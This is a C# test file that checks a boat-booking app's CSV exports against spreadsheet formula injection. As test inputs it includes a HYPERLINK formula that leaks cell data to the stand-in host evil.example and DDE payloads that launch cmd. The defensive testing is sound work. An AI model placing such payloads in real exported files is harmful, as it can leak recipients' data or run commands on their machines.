using CsvHelper;
using JkBoats.Data.Staff;
using JkBoats.Tests.Api;
using JkBoats.Tests.Infrastructure;
using JkBoats.Tests.Staff;
using JkBoats.Web.Infrastructure;

namespace JkBoats.Tests.Security;

/// <summary>No cell of a CSV the app produces can run as a spreadsheet formula; phone numbers stay readable.</summary>
[Collection(AppCollection.Name)]
public sealed class CsvInjectionTests(AppFixture fixture)
{
    private static readonly string[] FormulaNames =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("-5.00", "-5.00")]
    [InlineData("-5.00+1", "'-5.00+1")]
    [InlineData("-1e3", "'-1e3")]
    [InlineData("-5\n", "'-5\n")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("  =1", "'  =1")]
    [InlineData("+14155550111", "+14155550111")]
    [InlineData("+1 415 555 0111", "'+1 415 555 0111")]
    [InlineData("Ann Lee", "Ann Lee")]
    [InlineData("O'Brien", "O'Brien")]
    [InlineData("", "")]
    public void A_cell_that_a_spreadsheet_would_run_gets_a_leading_apostrophe_and_a_plain_phone_number_does_not(string cell, string written) =>
        Assert.Equal(written, CsvFile.Neutralise(cell));

    [Fact]
    public async Task The_manifest_csv_neutralises_formula_names_and_emails_and_keeps_phone_numbers()
    {
        var departure = await fixture.Data.CreateDepartureAsync(capacity: 10);
        var api = fixture.CreateClient();
        for (var i = 0; i < FormulaNames.Length; i++)
        {
            var email = i == 0 ? $"-2+3{Guid.NewGuid():N}@example.com" : null;
            var booked = await BookingApi.PostAsync(api, BookingApi.Body(departure.DepartureId, 1,
                TestData.Customer(email: email, fullName: FormulaNames[i], phone: $"+1415555011{i}")));
            Assert.Equal(201, booked.Status);
        }
        var agent = await StaffSession.SignInAsync(fixture.App, fixture.Db, StaffRoles.Agent);

        var response = await agent.Http.GetAsync($"/staff/departures/{departure.DepartureId}?handler=Csv");

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        using var reader = CsvReader.Create(await response.Content.ReadAsStreamAsync());
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(Enumerable.Range(0, reader.FieldCount).Select(reader.GetString).ToArray());
        }
        Assert.Equal(FormulaNames.Length, rows.Count);
        Assert.Equal(FormulaNames.Select(n => "'" + n).Order(), rows.Select(r => r[1]).Order());
        Assert.Equal(Enumerable.Range(0, FormulaNames.Length).Select(i => $"+1415555011{i}").Order(), rows.Select(r => r[2]).Order());
        Assert.All(rows, row => Assert.All(row.Where((_, column) => column != 2), cell =>
            Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"cell {cell} would run as a formula")));
        Assert.Contains(rows, row => row[3].StartsWith("'-2+3", StringComparison.Ordinal));
    }
}
